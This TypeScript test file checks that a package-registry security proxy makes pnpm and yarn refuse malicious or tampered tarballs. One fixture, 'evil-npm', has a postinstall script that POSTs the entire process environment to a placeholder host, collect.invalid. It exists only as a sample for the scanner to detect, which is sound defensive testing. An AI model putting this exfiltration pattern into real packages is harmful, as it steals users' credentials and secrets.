/**
 * pnpm, yarn classic and yarn berry (installed as devDependencies, run from node_modules) against the
 * proxy with a loopback upstream serving fixtures, directly and through `vigil run`. Every client runs
 * with its own HOME, cache and store in a temporary folder, so nothing reaches the internet or the user's
 * configuration. A client whose package is missing is skipped, never failed.
 */
import { describe, test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { makeNpmTgz, sri512 } from '../helpers/archives.js';
import { runCommand } from '../../src/cli/commands/run.js';
import type { CliIO } from '../../src/cli/command.js';
import { guardedEnvironment, withNoProxyHost } from '../../src/guard/launch.js';
import { ScanCache } from '../../src/guard/scanner.js';
import { evilByName, startGuardedRegistry } from './guarded-registry.js';
import type { GuardedRegistry } from './guarded-registry.js';

// dist/test/guard -> repository root
const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const PNPM = join(ROOT, 'node_modules/pnpm/bin/pnpm.cjs');
// Both yarn packages declare a `yarn` bin, so each is run from its own package folder, not node_modules/.bin.
const YARN1 = join(ROOT, 'node_modules/yarn/bin/yarn.js');
const BERRY = join(ROOT, 'node_modules/yarn-berry/bin/yarn.js');
const missing = (file: string, pkg: string): string | false => (existsSync(file) ? false : `${pkg} is not installed (npm install restores the devDependency)`);
const skipPnpm = missing(PNPM, 'pnpm');
const skipYarn1 = missing(YARN1, 'yarn');
const skipBerry = missing(BERRY, 'yarn-berry (@yarnpkg/cli-dist)');

const INDEX_JS = 'module.exports = 1;\n';
const leftPad = makeNpmTgz({ name: 'left-pad', version: '1.0.0', main: 'index.js' }, { 'index.js': INDEX_JS });
const leftPad2 = makeNpmTgz({ name: 'left-pad', version: '1.1.0', main: 'index.js' }, { 'index.js': 'module.exports = 2;\n' });
// Never executed (every client runs with scripts disabled); the real analysis under `vigil run` flags it.
const evilNpm = makeNpmTgz(
  { name: 'evil-npm', version: '1.0.0', scripts: { postinstall: 'node x.js' } },
  { 'x.js': "const https = require('https');\nconst req = https.request({ hostname: 'collect.invalid', path: '/c', method: 'POST' });\nreq.end(JSON.stringify(process.env));\n" },
);
const tamperNpm = makeNpmTgz({ name: 'tamper-npm', version: '1.0.0' }, { 'index.js': 'module.exports = 3;\n' });
const REASON = 'postinstall sends process.env to collect.invalid (x.js:3, runs on install).';

const fakeScanner = evilByName(REASON);

const DEAD_PROXY = 'http://127.0.0.1:9';
let guarded: GuardedRegistry;
let registry = '';
let work = '';

interface Result {
  code: number | null;
  out: string;
}

/** Only what a client needs; every npm/pnpm/yarn setting from the outer environment is left behind. */
function isolatedEnv(home: string, extra: Record<string, string> = {}): NodeJS.ProcessEnv {
  const env: NodeJS.ProcessEnv = {
    PATH: process.env.PATH,
    HOME: home,
    XDG_CONFIG_HOME: join(home, '.config'),
    XDG_CACHE_HOME: join(home, '.cache'),
    XDG_DATA_HOME: join(home, '.local/share'),
    XDG_STATE_HOME: join(home, '.local/state'),
    npm_config_userconfig: join(home, '.npmrc'),
    npm_config_update_notifier: 'false',
    npm_config_fetch_retries: '0',
    YARN_IGNORE_PATH: '1',
    YARN_ENABLE_TELEMETRY: '0',
    YARN_ENABLE_GLOBAL_CACHE: '0',
    YARN_ENABLE_IMMUTABLE_INSTALLS: '0',
    YARN_ENABLE_PROGRESS_BARS: '0',
    YARN_NODE_LINKER: 'node-modules',
    YARN_HTTP_RETRY: '0',
    COREPACK_ENABLE_STRICT: '0',
    CI: '1',
    // Anything not addressed to the loopback proxy goes to a closed port instead of the internet.
    // NO_PROXY is left to the caller: `vigil run` must set it. (Yarn berry ignores these variables, and its
    // own httpProxy setting has no exception for loopback, so berry is confined by its .yarnrc.yml only.)
    HTTP_PROXY: DEAD_PROXY,
    HTTPS_PROXY: DEAD_PROXY,
    ...extra,
  };
  return env;
}

/** A fresh project folder with its own HOME; the client is spawned asynchronously (the proxy lives here). */
function project(name: string): { dir: string; home: string } {
  const dir = mkdtempSync(join(work, `${name}-`));
  const home = join(dir, '.home');
  mkdirSync(home);
  writeFileSync(join(home, '.npmrc'), '');
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: `t-${name}`, version: '1.0.0', private: true }));
  return { dir, home };
}

function spawnClient(args: string[], cwd: string, env: NodeJS.ProcessEnv): Promise<Result> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, args, { cwd, env, stdio: ['ignore', 'pipe', 'pipe'], timeout: 60_000 });
    let out = '';
    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
    child.on('close', (code) => {
      if (process.env.VIGIL_SHOW_CLIENT_OUTPUT === '1') process.stderr.write(`--- ${args.slice(0, 3).join(' ')}\n${out}\n`);
      resolve({ code, out });
    });
  });
}

function pnpm(p: { dir: string; home: string }, ...args: string[]): Promise<Result> {
  return spawnClient(
    [PNPM, ...args, '--registry', registry, '--store-dir', join(p.home, 'store'), '--config.cache-dir=' + join(p.home, 'cache'), '--ignore-scripts', '--reporter', 'append-only'],
    p.dir,
    isolatedEnv(p.home, { NO_PROXY: '127.0.0.1' }),
  );
}

function yarn1(p: { dir: string; home: string }, ...args: string[]): Promise<Result> {
  mkdirSync(join(p.home, 'mirror'));
  return spawnClient(
    [YARN1, ...args, '--registry', registry, '--cache-folder', join(p.home, 'cache'), '--ignore-scripts', '--non-interactive', '--no-progress'],
    p.dir,
    isolatedEnv(p.home, { NO_PROXY: '127.0.0.1', YARN_YARN_OFFLINE_MIRROR: join(p.home, 'mirror') }),
  );
}

/** Yarn berry takes no registry flag: it is configured by a project .yarnrc.yml (and YARN_* variables). */
function berryProject(p: { dir: string; home: string }, withRegistry: boolean): void {
  const server = withRegistry ? `npmRegistryServer: "${registry}"\nunsafeHttpWhitelist: ["127.0.0.1"]\n` : '';
  writeFileSync(join(p.dir, '.yarnrc.yml'), `${server}cacheFolder: "${join(p.home, 'cache')}"\nenableScripts: false\n`);
  writeFileSync(join(p.dir, 'yarn.lock'), '');
}

function berry(p: { dir: string; home: string }, ...args: string[]): Promise<Result> {
  berryProject(p, true);
  return spawnClient([BERRY, ...args], p.dir, isolatedEnv(p.home, { NO_PROXY: '127.0.0.1' }));
}

/**
 * `vigil run -- <client> …` with the real static analysis and a policy that denies left-pad 1.1.0. The
 * client is reached through a link named like the real command, so `vigil run` recognises it, and gets
 * no registry option: only the environment `vigil run` sets points it at the proxy.
 */
async function vigilRun(client: 'pnpm' | 'yarn' | 'berry', p: { dir: string; home: string }, args: string[]): Promise<{ code: number; out: string }> {
  const bin = join(p.home, 'bin');
  mkdirSync(bin, { recursive: true });
  const exe = join(bin, client === 'pnpm' ? 'pnpm' : 'yarn');
  symlinkSync(client === 'pnpm' ? PNPM : client === 'yarn' ? YARN1 : BERRY, exe);
  if (client === 'berry') berryProject(p, false);
  const policy = join(p.home, 'policy.yaml');
  writeFileSync(policy, 'deny:\n  - npm:left-pad@1.1.0\n');
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let out = '';
  stdout.on('data', (d: Buffer) => (out += d.toString()));
  stderr.on('data', (d: Buffer) => (out += d.toString()));
  const env = isolatedEnv(p.home, { VIGIL_DATA_DIR: join(p.home, 'vigil-data') });
  const cli: CliIO = { stdout, stderr, env, cwd: p.dir };
  const clientArgs =
    client === 'pnpm'
      ? ['--store-dir', join(p.home, 'store'), '--config.cache-dir=' + join(p.home, 'cache'), '--ignore-scripts', '--reporter', 'append-only']
      : client === 'yarn'
        ? ['--cache-folder', join(p.home, 'cache'), '--ignore-scripts', '--non-interactive', '--no-progress']
        : [];
  const code = await runCommand.run(['--policy', policy, '--upstream-npm', guarded.upstream.npmRegistryUrl, '--', exe, ...args, ...clientArgs], cli);
  if (process.env.VIGIL_SHOW_CLIENT_OUTPUT === '1') process.stderr.write(`--- vigil run ${client} ${args.join(' ')}\n${out}\n`);
  return { code, out };
}

function installed(dir: string, name: string, file = 'index.js'): string {
  return readFileSync(join(dir, 'node_modules', name, file), 'utf8');
}

before(async () => {
  work = mkdtempSync(join(tmpdir(), 'vigil-more-clients-'));
  guarded = await startGuardedRegistry(
    {
      npm: [
        { name: 'left-pad', versions: [{ version: '1.0.0', tarball: leftPad }, { version: '1.1.0', tarball: leftPad2 }] },
        { name: 'evil-npm', versions: [{ version: '1.0.0', tarball: evilNpm }] },
        { name: 'tamper-npm', versions: [{ version: '1.0.0', tarball: tamperNpm, tampered: leftPad }] },
      ],
    },
    {
      cache: new ScanCache(fakeScanner),
      isKnownMalicious: (eco, name, version) => eco === 'npm' && name === 'left-pad' && version === '1.1.0',
    },
  );
  registry = `${guarded.url}/npm/`;
});

after(async () => {
  await guarded.close();
  rmSync(work, { recursive: true, force: true });
});

// Clients are slow to start; run them side by side.
describe('pnpm and yarn through the proxy', { concurrency: 4 }, () => {
  test('pnpm add: the benign tarball installs intact; the MAL-hidden 1.1.0 is not chosen', { skip: skipPnpm }, async () => {
    const p = project('pnpm-good');
    const r = await pnpm(p, 'add', 'left-pad@^1.0.0');
    assert.equal(r.code, 0, r.out);
    assert.equal(installed(p.dir, 'left-pad'), INDEX_JS);
    const lock = readFileSync(join(p.dir, 'pnpm-lock.yaml'), 'utf8');
    assert.match(lock, /left-pad@1\.0\.0/);
    assert.ok(lock.includes(sri512(leftPad)), 'pnpm verified and recorded the upstream integrity');
    assert.doesNotMatch(lock, /1\.1\.0/);
  });

  test('pnpm add: a malicious tarball is refused and pnpm shows the reason', { skip: skipPnpm }, async () => {
    const p = project('pnpm-evil');
    const r = await pnpm(p, 'add', 'evil-npm@1.0.0');
    assert.notEqual(r.code, 0, r.out);
    assert.match(r.out, /ERR_PNPM_FETCH_403\s+GET \S+evil-npm-1\.0\.0\.tgz: Blocked by Vigil: evil-npm@1\.0\.0: malicious \(score 150\): postinstall sends/);
    assert.ok(!existsSync(join(p.dir, 'node_modules/evil-npm')));
  });

  test('pnpm add: a tarball that does not match the upstream integrity is refused', { skip: skipPnpm }, async () => {
    const p = project('pnpm-tamper');
    const r = await pnpm(p, 'add', 'tamper-npm@1.0.0');
    assert.notEqual(r.code, 0, r.out);
    assert.match(r.out, /ERR_PNPM_FETCH_403\s+GET \S+tamper-npm-1\.0\.0\.tgz: Blocked by Vigil: tamper-npm@1\.0\.0: integrity check failed/);
    assert.ok(!existsSync(join(p.dir, 'node_modules/tamper-npm')));
  });

  test('yarn classic add: the tarball arrives byte-identical; the MAL-hidden 1.1.0 is not chosen', { skip: skipYarn1 }, async () => {
    const p = project('yarn1-good');
    const r = await yarn1(p, 'add', 'left-pad@^1.0.0');
    assert.equal(r.code, 0, r.out);
    assert.equal(installed(p.dir, 'left-pad'), INDEX_JS);
    // The offline mirror keeps the tarball exactly as it was downloaded.
    assert.deepEqual(readdirSync(join(p.home, 'mirror')), ['left-pad-1.0.0.tgz']);
    assert.deepEqual(new Uint8Array(readFileSync(join(p.home, 'mirror', 'left-pad-1.0.0.tgz'))), leftPad);
    const lock = readFileSync(join(p.dir, 'yarn.lock'), 'utf8');
    assert.match(lock, /version "1\.0\.0"/);
    assert.doesNotMatch(lock, /1\.1\.0/);
  });

  // Yarn classic prints only the status code and its standard text for a failed tarball download (it never
  // shows the status text or the body), so the reason reaches the user through `vigil run` (tested below).
  test('yarn classic add: a malicious tarball is refused (403 on its URL)', { skip: skipYarn1 }, async () => {
    const p = project('yarn1-evil');
    const r = await yarn1(p, 'add', 'evil-npm@1.0.0');
    assert.notEqual(r.code, 0, r.out);
    assert.match(r.out, /evil-npm-1\.0\.0\.tgz: Request failed "403 Forbidden"/);
    assert.ok(!existsSync(join(p.dir, 'node_modules/evil-npm')));
  });

  test('yarn berry add: the benign package installs intact; the MAL-hidden 1.1.0 is not chosen', { skip: skipBerry }, async () => {
    const p = project('berry-good');
    const r = await berry(p, 'add', 'left-pad@^1.0.0');
    assert.equal(r.code, 0, r.out);
    assert.equal(installed(p.dir, 'left-pad'), INDEX_JS);
    const lock = readFileSync(join(p.dir, 'yarn.lock'), 'utf8');
    assert.match(lock, /version: 1\.0\.0/);
    assert.doesNotMatch(lock, /1\.1\.0/);
  });

  test('yarn berry add: a malicious tarball is refused and yarn shows the reason', { skip: skipBerry }, async () => {
    const p = project('berry-evil');
    const r = await berry(p, 'add', 'evil-npm@1.0.0');
    assert.notEqual(r.code, 0, r.out);
    assert.match(r.out, /Response Code: 403 \(Blocked by Vigil: evil-npm@1\.0\.0: malicious \(score 150\): postinstall sends/);
    assert.ok(!existsSync(join(p.dir, 'node_modules/evil-npm')));
  });
});

describe('vigil run -- pnpm / yarn', { concurrency: 4 }, () => {
  for (const [client, skip] of [
    ['pnpm', skipPnpm],
    ['yarn', skipYarn1],
    ['berry', skipBerry],
  ] as const) {
    test(`${client}: pointed at the proxy by the environment; the denied 1.1.0 is hidden, 1.0.0 installs`, { skip }, async () => {
      const p = project(`run-${client}-good`);
      const r = await vigilRun(client, p, ['add', 'left-pad@^1.0.0']);
      assert.equal(r.code, 0, r.out);
      assert.match(r.out, /runs through the guard proxy at http:\/\/127\.0\.0\.1:\d+/);
      assert.match(r.out, /hid left-pad 1\.1\.0: denied by policy/);
      assert.equal(installed(p.dir, 'left-pad'), INDEX_JS);
      const lock = readFileSync(join(p.dir, client === 'pnpm' ? 'pnpm-lock.yaml' : 'yarn.lock'), 'utf8');
      assert.doesNotMatch(lock, /1\.1\.0/);
      if (client !== 'berry') assert.ok(lock.includes(sri512(leftPad)), 'the upstream integrity is kept');
    });

    test(`${client}: the real analysis blocks a malicious tarball and vigil run prints why`, { skip }, async () => {
      const p = project(`run-${client}-evil`);
      const r = await vigilRun(client, p, ['add', 'evil-npm@1.0.0']);
      assert.notEqual(r.code, 0, r.out);
      assert.match(r.out, /BLOCKED evil-npm 1\.0\.0 \(evil-npm-1\.0\.0\.tgz\): malicious/);
      assert.match(r.out, /Credentials \(envAll\) are sent with request\.end \(package\/x\.js:3, runs on install\)/);
      assert.ok(!existsSync(join(p.dir, 'node_modules/evil-npm')));
    });
  }
});

test('vigil run exempts its loopback proxy from HTTP(S)_PROXY, keeping the NO_PROXY list', () => {
  assert.equal(withNoProxyHost(undefined, '127.0.0.1'), '127.0.0.1');
  assert.equal(withNoProxyHost(' ', '127.0.0.1'), '127.0.0.1');
  assert.equal(withNoProxyHost('.corp.example,localhost', '127.0.0.1'), '.corp.example,localhost,127.0.0.1');
  assert.equal(withNoProxyHost('localhost, 127.0.0.1', '127.0.0.1'), 'localhost, 127.0.0.1');
  assert.equal(withNoProxyHost('*', '127.0.0.1'), '*');
  const g = guardedEnvironment({ PATH: '/bin', HTTPS_PROXY: 'http://proxy.corp.example:3128', no_proxy: '.corp.example' }, 'http://127.0.0.1:5000', []);
  assert.equal(g.env.NO_PROXY, '127.0.0.1');
  assert.equal(g.env.no_proxy, '.corp.example,127.0.0.1');
  assert.equal(g.env.HTTPS_PROXY, 'http://proxy.corp.example:3128', 'install scripts keep the machine proxy');
});
